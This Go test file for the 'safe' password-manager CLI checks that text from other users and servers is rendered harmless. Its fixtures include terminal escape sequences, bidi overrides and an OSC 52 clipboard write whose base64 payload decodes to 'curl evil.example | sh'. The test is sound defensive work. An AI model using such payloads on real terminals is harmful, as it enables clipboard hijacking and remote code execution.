//go:build linux

package main

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"
)

// Text another party chose. escLine has what a one-line name may hold
// (no line break): a clear screen, an OSC 52 clipboard write, a window
// title, C1 CSI and OSC, a bidirectional override and isolate, backspace,
// BEL and DEL. escText adds carriage returns and line breaks, for values.
// Field names may hold no control character, URLs no ASCII one: escName
// and escURL are what is left to try there.
const (
	escLine = "Evil\x1b[2J\x1b[H\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b]0;pwned\x07" +
		"\u009b31m\u009d0;t\u009c\u202eRTL\u202c\u2066x\u2069\b\a\x7f-end"
	escText = escLine + "\r\n" + escLine + "\rover"
	escName = "field\u202eRTL\u202c\u2066x\u2069"
	escURL  = "https://evil.example/\u009b31m\u202eRTL"
)

// inert fails the test unless out holds nothing a terminal acts on: no C0
// control but line feed and tab, no DEL, no C1 control, no bidirectional
// control, valid UTF-8. On a pseudo-terminal the line discipline turns
// "\n" into "\r\n": crlf allows exactly that carriage return.
func inert(t *testing.T, what, out string, crlf bool) {
	t.Helper()
	if crlf {
		out = strings.ReplaceAll(out, "\r\n", "\n")
	}
	if !utf8.ValidString(out) {
		t.Errorf("%s: output is not valid UTF-8: %q", what, out)
	}
	for i, r := range out {
		switch {
		case r == '\n' || r == '\t':
		case r < 0x20 || r == 0x7f || (r >= 0x80 && r <= 0x9f),
			r >= 0x202a && r <= 0x202e, r >= 0x2066 && r <= 0x2069:
			t.Errorf("%s: output holds %U at byte %d:\n%q", what, r, i, out)
			return
		}
	}
	for _, payload := range []string{"52;c", "Y3VybC", "pwned"} {
		if strings.Contains(out, payload) && !strings.Contains(out, `\x1b]52;c`) && !strings.Contains(out, `\u009b31m`) {
			t.Errorf("%s: the body of an escape sequence (%q) is shown:\n%s", what, payload, out)
		}
	}
}

// TestEscapeSequencesFromOthers: bob, a member of an organisation ann
// belongs to, names the organisation, a group and a shared vault, and
// writes items (title, username, URL, notes, custom field, tags, folder,
// conflict marks, an earlier revision, an attachment's name, an SSH key's
// comment) full of terminal escape sequences, C1 controls and bidi
// overrides; a server answers with such an error. Every human listing and
// detail view ann runs, every error and warning, and every --json output
// is inert; values that programs read (`safe get --field`, `safe read`,
// `safe ssh public-key`, `safe attach get`) stay byte for byte through a
// pipe, and on a terminal are cleaned with a warning, or (an attachment)
// refused.
func TestEscapeSequencesFromOthers(t *testing.T) {
	h := newProcHarness(t)
	url, fp := h.server()
	for _, who := range []string{"ann", "bob"} {
		h.must(who, "account", "register", "--server", url, "--email", who+"@example.com", "--password-file", h.pw, "--fingerprint", fp, "--manual")
	}
	field := func(raw, name string) string {
		t.Helper()
		var m map[string]any
		if err := json.Unmarshal([]byte(raw), &m); err != nil {
			t.Fatalf("%v: %s", err, raw)
		}
		s, _ := m[name].(string)
		if s == "" {
			t.Fatalf("no %q in %s", name, raw)
		}
		return s
	}
	withStdin := func(home, stdin string, args ...string) string {
		t.Helper()
		cmd := h.command(home, args...)
		cmd.Stdin = strings.NewReader(stdin)
		var stdout, stderr bytes.Buffer
		cmd.Stdout, cmd.Stderr = &stdout, &stderr
		if err := runWithin(cmd, time.Minute); err != nil {
			t.Fatalf("safe %s: %v\n%s%s", strings.Join(args, " "), err, stdout.String(), stderr.String())
		}
		return stdout.String()
	}

	// bob's organisation, group and shared vault; ann joins and gets
	// write access.
	created := h.must("bob", "org", "create", escLine, "--json")
	org, orgFP := field(created, "id"), field(created, "fingerprint")
	h.must("bob", "org", "group", "create", org, escLine)
	vaultID := field(h.must("bob", "vault", "create", escLine, "--org", org, "--json"), "id")
	h.must("bob", "org", "invite", org, "ann@example.com")
	h.must("ann", "org", "accept", org, "--fingerprint", orgFP)
	annFP := strings.TrimSpace(h.must("ann", "account", "fingerprint"))
	h.must("bob", "org", "confirm", org, "ann@example.com", "--fingerprint", annFP)
	h.must("bob", "vault", "share", vaultID, "ann@example.com", "--role", "write")

	// bob's items in it.
	login, err := json.Marshal(map[string]any{
		"type": "login", "title": "T1" + escLine, "username": "u" + escText, "password": "password",
		"urls": []string{escURL}, "notes": "n" + escText + "\nlast",
		"fields": []map[string]string{{"name": escName, "kind": "text", "value": "v" + escText}},
		"tags":   []string{"tag" + escLine}, "folder": "folder" + escLine,
	})
	if err != nil {
		t.Fatal(err)
	}
	itemID := field(strings.Trim(strings.TrimSpace(withStdin("bob", string(login), "add", "--json", "--vault", vaultID)), "[]"), "id")
	const sshKey = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl "
	ssh, err := json.Marshal(map[string]any{"type": "ssh", "title": "S" + escLine, "ssh": map[string]string{"public_key": sshKey + "c" + escLine}})
	if err != nil {
		t.Fatal(err)
	}
	sshID := field(strings.Trim(strings.TrimSpace(withStdin("bob", string(ssh), "add", "--json", "--vault", vaultID)), "[]"), "id")
	// A second revision that carries conflict marks of bob's choosing.
	var cur map[string]any
	if err := json.Unmarshal([]byte(h.must("bob", "get", itemID, "--json", "--reveal")), &cur); err != nil {
		t.Fatal(err)
	}
	cur["conflicts"] = []map[string]string{{"field": "cf" + escText, "value": "cv" + escText, "seen": "2024-01-01T00:00:00Z"}}
	cur["notes"] = cur["notes"].(string) + "\nedited"
	edited, err := json.Marshal(cur)
	if err != nil {
		t.Fatal(err)
	}
	withStdin("bob", string(edited), "edit", itemID, "--json")
	attachment := "attached " + escText + "\n"
	attName := "att" + escLine + ".txt"
	file := filepath.Join(h.dir, "att.txt")
	if err := os.WriteFile(file, []byte(attachment), 0o600); err != nil {
		t.Fatal(err)
	}
	h.must("bob", "attach", "add", itemID, file, "--name", attName)
	h.must("bob", "sync")
	h.must("ann", "sync")

	// ann's human views: each shows bob's text (cleaned), none of it acts.
	for _, tc := range []struct {
		args []string
		code int
		want string // a part of the cleaned text the view shows
	}{
		{[]string{"ls"}, 0, "T1EvilRTLx-end"},
		{[]string{"ls", "--vault", vaultID}, 0, "folderEvilRTLx-end"},
		{[]string{"find", "T1"}, 0, "T1EvilRTLx-end"},
		{[]string{"get", itemID}, 0, "T1EvilRTLx-end"},
		{[]string{"show", itemID, "--reveal"}, 0, "vEvilRTLx-end"},
		{[]string{"get", sshID}, 0, "SEvilRTLx-end"},
		{[]string{"history", itemID}, 0, "notes"},
		{[]string{"history", itemID, "--show", "1", "--reveal"}, 0, "uEvilRTLx-end"},
		{[]string{"conflicts"}, 0, "cfEvilRTLx-end"},
		{[]string{"conflicts", "--reveal"}, 0, "cfEvilRTLx-end"},
		{[]string{"vault", "ls"}, 0, "EvilRTLx-end"},
		{[]string{"vault", "members", vaultID}, 0, "ann@example.com"},
		{[]string{"org", "ls"}, 0, "EvilRTLx-end"},
		{[]string{"org", "show", org}, 0, "EvilRTLx-end"},
		{[]string{"org", "members", org}, 0, "bob@example.com"},
		{[]string{"audit", "--no-breach"}, 20, "T1EvilRTLx-end"},
		{[]string{"account", "status"}, 0, "ann@example.com"},
		{[]string{"sync"}, 0, "Synced"},
		// Errors that name bob's text: two titles match "evil".
		{[]string{"get", "evil"}, 5, "T1EvilRTLx-end"},
		{[]string{"conflicts", "resolve", "evil"}, 5, "SEvilRTLx-end"},
		{[]string{"read", "safe://" + vaultID + "/" + sshID + "/password"}, 4, "SEvilRTLx-end"},
		{[]string{"attach", "rm", itemID, "no such"}, 4, ""},
	} {
		code, stdout, stderr := h.run("ann", tc.args...)
		what := "safe " + strings.Join(tc.args, " ")
		if code != tc.code {
			t.Errorf("%s: exit %d, want %d\n%s%s", what, code, tc.code, stdout, stderr)
		}
		inert(t, what, stdout+stderr, false)
		if !strings.Contains(stdout+stderr, tc.want) {
			t.Errorf("%s: output does not show %q:\n%s%s", what, tc.want, stdout, stderr)
		}
	}
	if out := h.must("ann", "get", itemID); !strings.Contains(out, "attEvilRTLx-end.txt") {
		t.Errorf("safe get: the attachment's name is not shown cleaned:\n%s", out)
	}

	// --json: exact values, escaped; the same on standard error.
	for _, args := range [][]string{
		{"ls", "--json"}, {"get", itemID, "--json", "--reveal"}, {"history", itemID, "--json", "--reveal"},
		{"conflicts", "--reveal", "--json"}, {"vault", "ls", "--json"}, {"org", "ls", "--json"},
		{"org", "show", org, "--json"}, {"audit", "--no-breach", "--json"},
	} {
		_, stdout, stderr := h.run("ann", args...)
		what := "safe " + strings.Join(args, " ")
		inert(t, what, stdout+stderr, false)
		if !strings.Contains(stdout+stderr, `Evil\u001b[2J`) {
			t.Errorf("%s: the JSON does not hold the exact text, escaped:\n%s%s", what, stdout, stderr)
		}
	}
	// An error as JSON: the candidates' titles are listed cleaned.
	if code, stdout, stderr := h.run("ann", "get", "evil", "--json"); code != 5 || !strings.Contains(stderr, "T1EvilRTLx-end") {
		t.Errorf("safe get evil --json: exit %d\n%s%s", code, stdout, stderr)
	} else {
		inert(t, "safe get evil --json", stdout+stderr, false)
	}
	var got struct {
		Title     string `json:"title"`
		Conflicts []struct {
			Field string `json:"field"`
		} `json:"conflicts"`
	}
	if err := json.Unmarshal([]byte(h.must("ann", "get", itemID, "--json")), &got); err != nil {
		t.Fatal(err)
	}
	if got.Title != "T1"+escLine || len(got.Conflicts) != 1 || got.Conflicts[0].Field != "cf"+escText {
		t.Errorf("safe get --json decodes to title %q, conflicts %+v", got.Title, got.Conflicts)
	}

	// Values for programs stay exact through a pipe.
	notes := "n" + escText + "\nlast\nedited"
	readRef := "safe://" + vaultID + "/" + itemID + "/notes"
	for _, tc := range []struct {
		args []string
		want string
	}{
		{[]string{"get", itemID, "--field", "notes", "--reveal"}, notes + "\n"},
		{[]string{"read", readRef}, notes + "\n"},
		{[]string{"ssh", "public-key", sshID}, sshKey + "c" + escLine + "\n"},
		{[]string{"attach", "get", itemID, attName}, attachment},
	} {
		if out := h.must("ann", tc.args...); out != tc.want {
			t.Errorf("safe %s through a pipe = %q, want %q", strings.Join(tc.args, " "), out, tc.want)
		}
	}
	tpl := "notes: {{ " + readRef + " }}\n"
	if out := withStdin("ann", tpl, "inject"); out != "notes: "+notes+"\n" {
		t.Errorf("safe inject through a pipe = %q", out)
	}

	// On a terminal those values are shown cleaned, with a warning; an
	// attachment is refused; the human views are inert there too.
	for _, tc := range []struct {
		args []string
		code int
		want string
	}{
		{[]string{"get", itemID, "--field", "notes", "--reveal"}, 0, "left out on this terminal"},
		{[]string{"read", readRef}, 0, "left out on this terminal"},
		{[]string{"ssh", "public-key", sshID}, 0, "left out on this terminal"},
		{[]string{"attach", "get", itemID, attName}, 2, "not written to a terminal"},
		{[]string{"ls"}, 0, "T1EvilRTLx-end"},
		{[]string{"get", itemID, "--reveal"}, 0, "uEvilRTLx-end"},
		{[]string{"conflicts", "--reveal"}, 0, "cfEvilRTLx-end"},
		{[]string{"org", "show", org}, 0, "EvilRTLx-end"},
	} {
		s := startPTY(t, h.bin, h.env("ann"), tc.args...)
		s.wait(tc.code)
		what := "on a terminal: safe " + strings.Join(tc.args, " ")
		inert(t, what, s.output(), true)
		if !strings.Contains(s.output(), tc.want) {
			t.Errorf("%s: output does not show %q:\n%s", what, tc.want, s.output())
		}
	}
	s := startPTY(t, h.bin, h.env("ann"), "get", itemID, "--field", "notes", "--reveal")
	s.wait(0)
	if !strings.Contains(s.output(), "nEvilRTLx-end\r\nEvilRTLx-endover\r\nlast\r\nedited") {
		t.Errorf("on a terminal, the notes are not shown cleaned:\n%q", s.output())
	}

	// A server's error message.
	evil := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusBadRequest)
		json.NewEncoder(w).Encode(map[string]string{"code": "bad\x1b[2J", "message": "server says " + escText})
	}))
	defer evil.Close()
	sum := sha256.Sum256(evil.Certificate().Raw)
	for _, jsonOut := range []bool{false, true} {
		args := []string{"account", "register", "--server", evil.URL, "--email", "carl@example.com", "--password-file", h.pw, "--fingerprint", hex.EncodeToString(sum[:]), "--manual"}
		if jsonOut {
			args = append(args, "--json")
		}
		code, stdout, stderr := h.run(fmt.Sprintf("carl%v", jsonOut), args...)
		what := "safe " + strings.Join(args, " ")
		if code == 0 {
			t.Errorf("%s: exit 0 from a server that refuses everything", what)
		}
		inert(t, what, stdout+stderr, false)
		if !strings.Contains(stderr, "server says EvilRTLx-end") {
			t.Errorf("%s: the server's message is not shown cleaned:\n%s%s", what, stdout, stderr)
		}
	}
}
